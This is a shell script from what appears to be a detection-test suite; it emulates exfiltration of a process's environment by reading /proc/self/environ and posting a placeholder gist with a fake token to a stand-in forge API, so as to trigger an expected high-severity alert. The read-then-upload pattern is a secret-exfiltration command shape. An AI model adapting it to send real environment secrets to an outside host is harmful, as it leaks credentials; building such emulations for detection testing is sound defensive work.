#!/bin/sh
# Emulates scenario environ-secrets-to-gist (examples/scenarios/environ-secrets-to-gist.yaml):
# The app's environment read from procfs and posted as a gist.
#
# The script reads its own process environment through procfs (that read is what exfilwatch flags) but
# posts a FAKE placeholder instead of it: the environment never leaves the pod. Safe version: the
# in-namespace forge-api stand-in with a fake token.
#
# Image: curlimages/curl:8.11.1
# Expected alert: sensitive-read-then-push, severity high
set -eu
# shellcheck source=lib.sh
. "$(dirname "$0")/lib.sh"

emu_need curl tr
emu_check_target "$EMU_FORGE_URL"
emu_log "reading /proc/self/environ, then posting a placeholder gist"
tr '\0' '\n' </proc/self/environ >/dev/null
printf '{"files":{"env.txt":{"content":"FAKE-ENVIRONMENT-EXAMPLE"}}}' | curl -fsS -o /dev/null -d @- \
  -H "Authorization: token ghp_FAKEEXAMPLETOKEN000000000000000000" \
  "$EMU_FORGE_URL/gists" ||
  emu_log "the upload ended with an error (the environment was read and a gist sent by then)"
emu_expect sensitive-read-then-push high
